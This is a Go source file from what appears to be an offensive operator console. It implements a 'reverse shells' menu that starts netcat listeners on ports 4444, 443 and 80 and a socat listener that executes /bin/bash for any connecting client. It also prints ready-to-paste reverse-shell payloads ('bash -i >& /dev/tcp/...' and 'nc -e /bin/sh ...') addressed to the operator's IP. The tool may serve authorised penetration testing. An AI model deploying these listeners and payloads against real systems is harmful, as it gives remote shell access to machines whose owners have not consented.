package modes

import (
	"context"
	"fmt"
	"time"

	"pkt.systems/opsdeck/core"
	"pkt.systems/opsdeck/schema"
)

const listenerTimeout = time.Hour

// ShellsMode starts reverse shell listeners. Listeners run in the
// background so the operator can navigate while waiting for a callback.
type ShellsMode struct {
	env  Env
	menu *menu
}

// NewShellsMode constructs the listener screen.
func NewShellsMode(env Env) *ShellsMode {
	return &ShellsMode{env: env, menu: newMenu("REVERSE SHELLS", env.Store)}
}

func (m *ShellsMode) ID() schema.ModeID      { return "shells" }
func (m *ShellsMode) Title() string          { return "REVERSE SHELLS" }
func (m *ShellsMode) AllowsBackground() bool { return true }

func (m *ShellsMode) Enter(ctx context.Context) {
	m.menu.reset([]menuItem{
		{label: "NC Listener 4444", run: func(ctx context.Context) { m.ncListener(ctx, 4444) }},
		{label: "NC Listener 443", run: func(ctx context.Context) { m.ncListener(ctx, 443) }},
		{label: "NC Listener 80", run: func(ctx context.Context) { m.ncListener(ctx, 80) }},
		{label: "Socat PTY 4444", run: m.socat},
		{label: "Show Payloads", run: m.showPayloads},
		{label: "Kill Listeners", run: m.killListeners},
	})
}

func (m *ShellsMode) Exit(context.Context) {}

func (m *ShellsMode) HandleInput(ctx context.Context, event schema.InputEvent) {
	m.menu.handle(ctx, event)
}

func (m *ShellsMode) Tick(context.Context) {}

func (m *ShellsMode) ncListener(ctx context.Context, port int) {
	var command string
	var args []string
	if port < 1024 {
		command, args = "sudo", []string{"nc", "-lvnp", fmt.Sprint(port)}
	} else {
		command, args = "nc", []string{"-lvnp", fmt.Sprint(port)}
	}
	m.env.start(ctx, core.StartRequest{
		Mode: m.ID(), Name: fmt.Sprintf("NC Listener :%d", port),
		Command: command, Args: args,
		Timeout:  listenerTimeout,
		Category: "shells", Ext: "log",
	})
	m.env.Store.AddAlert(fmt.Sprintf("Listening on %s:%d", localIP(), port), schema.AlertInfo)
}

func (m *ShellsMode) socat(ctx context.Context) {
	m.env.start(ctx, core.StartRequest{
		Mode: m.ID(), Name: "Socat :4444",
		Command: "socat",
		Args:    []string{"TCP-LISTEN:4444,reuseaddr,fork", "EXEC:/bin/bash,pty,stderr,setsid"},
		Timeout: listenerTimeout,
		Category: "shells", Ext: "log",
	})
	m.env.Store.AddAlert(fmt.Sprintf("Socat on %s:4444", localIP()), schema.AlertInfo)
}

func (m *ShellsMode) showPayloads(ctx context.Context) {
	ip := localIP()
	m.env.Store.AddAlert(fmt.Sprintf("bash -i >& /dev/tcp/%s/4444 0>&1", ip), schema.AlertInfo)
	m.env.Store.AddAlert(fmt.Sprintf("nc -e /bin/sh %s 4444", ip), schema.AlertInfo)
}

func (m *ShellsMode) killListeners(ctx context.Context) {
	m.env.start(ctx, core.StartRequest{
		Mode: m.ID(), Name: "Kill Listeners",
		Command: "sh",
		Args:    []string{"-c", "pkill -9 nc; pkill -9 ncat; pkill -9 socat"},
		Timeout: 10 * time.Second,
	})
}
